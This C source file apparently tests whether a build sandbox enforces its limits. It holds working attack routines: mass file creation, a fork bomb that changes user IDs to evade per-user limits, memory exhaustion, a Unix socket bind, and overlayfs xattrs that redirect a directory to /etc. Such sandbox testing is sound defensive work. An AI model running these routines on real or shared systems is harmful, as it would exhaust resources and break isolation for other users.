// Attacks that take all there is, and files that are none.
#define _GNU_SOURCE
#include "attack.h"

#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>

void attack_many(bool endless) {
    for (unsigned number = 0; endless || number < 100000; ++number) {
        char name[32];
        snprintf(name, sizeof(name), "%u", number);
        const int fd = open(name, O_CREAT | O_WRONLY, 0644);
        if (fd < 0) {
            perror(name);
            sleep(endless ? 1000 : 0);
            exit(1);
        }
        close(fd);
    }
}

// Each process starts others and waits for none; none of them ever sleeps, so that the builder has
// to compete with all for the processors. They change their user, as limits count for each.
void attack_fork(void) {
    signal(SIGCHLD, SIG_IGN);
    for (unsigned user = 1;; ++user) {
        if (fork() == 0 && setuid(user % 60000) != 0) {
            continue;
        }
    }
}

void attack_memory(void) {
    const size_t size = 64U << 20U;
    // Enough to show that there is no limit, and no more: other work goes on on this machine.
    for (size_t taken = 0; taken < (size_t)6 << 30U; taken += size) {
        char* memory = malloc(size);
        if (memory == NULL) {
            perror("malloc");
            exit(1);
        }
        for (size_t at = 0; at < size; at += 4096) {
            memory[at] = (char)at;
        }
    }
    pause();
}

void attack_socket(void) {
    struct sockaddr_un name = {.sun_family = AF_UNIX, .sun_path = "socket"};
    const int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(fd, (const struct sockaddr*)&name, sizeof(name)) != 0) {
        perror("bind");
        exit(1);
    }
}

void attack_opaque(const char* directory) {
    if (setxattr(directory, "user.overlay.opaque", "y", 1, 0) != 0) {
        perror("user.overlay.opaque");
    }
    if (setxattr(directory, "user.overlay.redirect", "/etc", 4, 0) != 0) {
        perror("user.overlay.redirect");
    }
}
